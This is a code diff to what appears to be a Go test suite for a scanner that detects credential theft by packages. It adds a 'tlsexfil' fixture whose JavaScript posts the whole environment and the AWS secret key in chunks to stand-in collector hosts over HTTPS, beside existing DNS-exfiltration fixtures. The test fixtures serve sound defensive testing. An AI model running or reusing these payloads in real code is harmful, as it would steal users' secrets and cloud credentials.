@@ -209,6 +209,16 @@ dns.lookup(b32.slice(0, 16) + '.q.exfil-example.net', {family: 4}, () => dns.loo
 }));`},
 		{Name: "splitexfil", OnStart: `const hex = Buffer.from(process.env.AWS_ACCESS_KEY_ID).toString('hex'), dns = require('dns'), pieces = hex.match(/.{1,10}/g);
 (function next(i) { if (i < pieces.length) dns.lookup(pieces[i] + '.s.exfil-example.net', {family: 4}, () => next(i + 1)); })(0);`},
+		// HTTPS read inside TLS under the run's CA (issue 39): the whole
+		// environment (the --env values and the canaries) as JSON and in
+		// base64, and the AWS secret eight characters a request.
+		{Name: "tlsexfil", OnStart: `const e = JSON.stringify(process.env), b = Buffer.from(e).toString('base64'), k = process.env.AWS_SECRET_ACCESS_KEY;
+const post = async (url, body) => { try { await (await fetch(url, {method: 'POST', body, signal: AbortSignal.timeout(3000)})).text(); } catch (x) {} };
+(async () => {
+  await post('https://telemetry.example-analytics.com/v1/env', e);
+  await post('https://upload.example-collector.net/b64', b);
+  for (let i = 0; i < k.length; i += 8) await post('https://chunks.example-collector.net/c', JSON.stringify({c: k.slice(i, i + 8)}));
+})();`},
 		// The PyPI fixtures (issue 35): an sdist whose build prints its
 		// environment, exfiltrates a canary over DNS, writes a .pth hook
 		// and leaves a setsid daemon; its server repeats every secret
@@ -360,6 +370,17 @@ subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)"], start_n
 				}
 				if n := strings.Count(string(bundles[id]), "[secret:"); n < 4 {
 					t.Errorf("%d masked --env values in the bundle: the server did not repeat them", n)
+				}
+			}
+			// The TLS fixture's bodies must have been read: its canaries
+			// found inside TLS, whole and split, and its --env values
+			// masked in the stored previews.
+			if f.Name == "tlsexfil" {
+				b := strings.ReplaceAll(string(bundles[id]), `": `, `":`)
+				for _, want := range []string{`"channel":"https_body"`, "split across", `"tls":true`, "[secret:env:API_TOKEN]"} {
+					if !strings.Contains(b, want) {
+						t.Errorf("the stored bundle has no %s: the TLS bodies were not read\n%.2000s", want, b)
+					}
 				}
 			}
 			for _, h := range lf.hits {
